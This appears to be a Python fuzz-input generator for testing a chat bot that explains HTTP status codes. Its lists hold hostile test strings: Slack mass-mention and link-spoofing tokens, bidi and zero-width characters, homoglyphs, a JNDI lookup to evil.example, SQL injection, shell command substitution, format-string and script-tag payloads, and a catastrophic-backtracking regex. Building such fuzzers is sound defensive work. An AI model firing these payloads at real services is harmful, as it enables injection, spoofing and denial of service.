"""What somebody might type to ping a channel, plant a link, turn a line round, break a parser or burn the processor."""

import random

PIECES = (
    *("<!channel>", "<!here>", "<!everyone>", "<!subteam^S0EVIL>", "<@U0EVIL>", "<#C0EVIL|evil>", "<!date^0^{date}|x>"),
    *(
        "<https://evil.example|503>",
        "<https://evil.example>",
        "https://evil.example/?q=<b>",
        "[503](https://evil.example)",
    ),
    *(
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "&lt",
        "&#60;!here&#62;",
        "<<!here>>",
        "<!chan\u200bnel>",
        "＜!channel＞",
    ),
    *("`", "```", "*", "_", "~", ">", "> ", "&", "|", "<", "<!", ":smile:", "@channel", "@here", "\\", '"', "'"),
    *("\u202e", "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\u200d", "\ufeff", "\u2028", "\u00ad", "\U000e0041"),
    *("\x00", "\x08", "\x1b[31m", "\x7f", "\r", "\r\n", "\n", "\t", "\ud800", "\udfff", "e\u0301" * 9, "👩‍👩‍👧‍👦"),
    *("５０３", "५०३", "٥٠٣", "𝟝𝟘𝟛", "⑤⓪③", "ѕеrvіcе unavаіlаblе", "с0nflict", "nоt fоund", "４０４ 없음"),
    *(
        "${jndi:ldap://evil.example}",
        "' OR 1=1 --",
        "'; DROP TABLE entry; --",
        "%s%n%x",
        "{0.__class__}",
        "{q}",
        "$(id)",
    ),
    *(
        '{"q":"503","l":"ko"}',
        '{"status": 503',
        "]]>",
        "<script>alert(1)</script>",
        "((a+)+)+$",
        "[" * 40,
        "(" * 40,
        "\\u0000",
    ),
)
WORDS = (
    *(
        "503",
        "5xx",
        "401 vs 403",
        "50[234]",
        "500-504",
        "what is 418",
        "which code when the email already exists",
        "retry",
    ),
    *(
        '"GET / HTTP/1.1" 502 0 "-"',
        "elb_status_code=502 target_status_code=-",
        "upstream prematurely closed",
        "nginx 499",
    ),
    *(
        "ko",
        "en",
        "share",
        "quiet",
        "뭐야",
        "이메일 중복이면 몇 번 줘야 돼?",
        "530",
        "Retry-After",
        "help",
        "method-preserving redirect",
    ),
)
ORDERS = (
    *(
        "edit {}",
        "edit 503",
        "history {}",
        "history",
        "undo {}",
        "undo 1",
        "misses",
        "rule list",
        "rule remove {}",
        "stack {}",
    ),
    *(
        'teach "{}" 503',
        "rule 503 {}",
        "rule 503 no https://evil.example/{}",
        "stack {} > nginx > {}",
        "share {}",
        "ko {}",
    ),
)
LONGEST_RUN = 4_000


def hostile(chance: random.Random, most: int = 12) -> str:
    """A few pieces, with or without a question round them; now and then one of them very often."""
    pieces = [chance.choice(PIECES if chance.random() < 0.75 else WORDS) for _ in range(chance.randint(1, most))]
    if chance.random() < 0.04:
        piece = chance.choice((*PIECES, *WORDS))
        pieces.append(piece * (chance.choice((100, 1_000, LONGEST_RUN)) // len(piece) + 1))
    if chance.random() < 0.1:
        pieces.append("".join(chr(chance.randrange(1, 0x11000)) for _ in range(chance.randint(1, 60))))
    return chance.choice(("", " ", " ", "\n")).join(pieces)


def order(chance: random.Random) -> str:
    """What only admins may say, or what resembles it."""
    return chance.choice(ORDERS).replace("{}", hostile(chance, 4))
